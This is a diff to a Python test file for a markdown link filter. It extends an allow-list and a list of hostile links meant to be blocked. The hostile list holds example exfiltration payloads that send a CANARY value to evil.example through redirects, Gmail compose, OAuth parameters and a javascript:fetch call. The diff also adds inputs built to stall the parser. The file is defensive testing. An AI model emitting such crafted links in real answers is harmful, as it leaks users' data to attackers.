@@ -17,7 +17,15 @@ from markdown_it import MarkdownIt
 from functions.core.links import Links
 
 EVENT = "https://www.google.com/calendar/event?eid=abc123"
-OURS = ["https://www.google.com/calendar/event?eid=", "https://docs.google.com/document/d/"]
+ALLOW = "https://plugin.example.com/oauth/allow?client_id=c-1&capability="
+OURS = [
+    "https://www.google.com/calendar/event?eid=",
+    "https://docs.google.com/document/d/",
+    "https://meet.google.com/",
+    "https://mail.google.com/mail/",
+    "https://plugin.example.com/",
+    ALLOW,
+]
 SAID = ["Read https://good.example/guide/start, and what is on Example.org; ask anna@mail.example."]
 LINKS = Links.of(OURS, SAID)
 
@@ -103,6 +111,11 @@ EVIL = (
     "[x](https://good.example/other/CANARY)",
     "[x](https://www.google.com/url?q=https://evil.example/CANARY)",
     "[x](https://docs.google.com/forms/d/e/evil/formResponse?entry.1=CANARY)",
+    "[x](https://docs.google.com/document/d/1AbC/edit?q=CANARY)",
+    "[x](https://meet.google.com/linkredirect?dest=https://evil.example/CANARY)",
+    "[x](https://mail.google.com/mail/?view=cm&to=collect@evil.example&body=CANARY)",
+    "[x](https://plugin.example.com/oauth/authorize?client_id=https%3A%2F%2Fevil.example%2FCANARY)",
+    "[x](https://plugin.example.com/oauth/allow?client_id=https%3A%2F%2Fevil.example%2FCANARY&capability=docs)",
     "[x](javascript:fetch('https://evil.example/?q=CANARY'))",
     "[x](data:text/html,CANARY)",
     "[x](vbscript:CANARY)",
@@ -196,7 +209,11 @@ def test_no_composition_of_syntax_leads_anywhere_else(text: str) -> None:
     "address",
     [
         EVENT,
-        "https://docs.google.com/document/d/1AbC_-x/edit?tab=t.0#heading=h.1",
+        "https://docs.google.com/document/d/1AbC_-x/edit#heading=h.1",
+        "https://mail.google.com/mail/#all/18c1",
+        "https://meet.google.com/abc-defg-hij",
+        "https://plugin.example.com/account",
+        f"{ALLOW}docs",
         "https://good.example/guide/start",
         "http://good.example/guide/start/next",
         "https://example.org",
@@ -257,3 +274,14 @@ def test_no_answer_keeps_us_busy(unit: str) -> None:
     LINKS.limit(unit * (20_000 // len(unit)))
 
     assert time.process_time() - began < 1
+
+
+@pytest.mark.parametrize(
+    "text", ["[x](" + " " * 20_000, "[x](\n" * 5_000, "[x](a" + "\t" * 20_000, "[x](a '" + "x" * 20_000, "[" + "[x]" * 7_000]
+)
+def test_no_link_without_an_end_keeps_us_busy(text: str) -> None:
+    began = time.process_time()
+
+    LINKS.limit(text)
+
+    assert time.process_time() - began < 0.5
